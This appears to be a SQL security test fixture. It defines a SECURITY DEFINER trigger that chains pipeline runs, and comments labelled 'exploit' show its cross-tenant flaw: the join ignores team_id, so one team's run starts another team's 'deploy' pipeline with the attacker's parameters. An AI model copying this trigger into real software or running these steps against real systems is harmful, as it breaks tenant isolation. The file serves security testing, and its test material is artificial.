-- A run starts pipelines of the same name that follow it in every team, with parameters of the attacker.
-- about: start_downstream, runs
-- as: hf_pipelines_app
-- exploit: SET pipe.team_id = '1001';
-- exploit: SELECT pipe.save_pipeline('own', 'then deploy');
-- exploit: SELECT pipe.start_run('own', '{"by": "apex"}') IS NOT NULL;
-- exploit: SET pipe.team_id = '2002';
-- exploit: SELECT 'foreign run ' || state FROM pipe.runs_of('deploy') WHERE parameters ->> 'by' = 'apex';
-- shows: foreign run waiting
-- A description that ends in "then NAME" starts that pipeline as well.
SET ROLE hf_pipelines_owner;
CREATE FUNCTION pipe_data.start_downstream() RETURNS trigger
LANGUAGE plpgsql SECURITY DEFINER SET search_path = pg_catalog, pg_temp
AS $$
BEGIN
  INSERT INTO pipe_data.runs (team_id, pipeline, parameters)
  SELECT n.team_id, n.pipeline, NEW.parameters
  FROM pipe_data.pipelines p
  JOIN pipe_data.pipelines n ON p.description LIKE '%then ' || n.pipeline
  WHERE p.team_id = NEW.team_id AND p.pipeline = NEW.pipeline;
  RETURN NULL;
END
$$;
CREATE TRIGGER start_downstream AFTER INSERT ON pipe_data.runs
  FOR EACH ROW WHEN (pg_trigger_depth() = 0) EXECUTE FUNCTION pipe_data.start_downstream();
RESET ROLE;
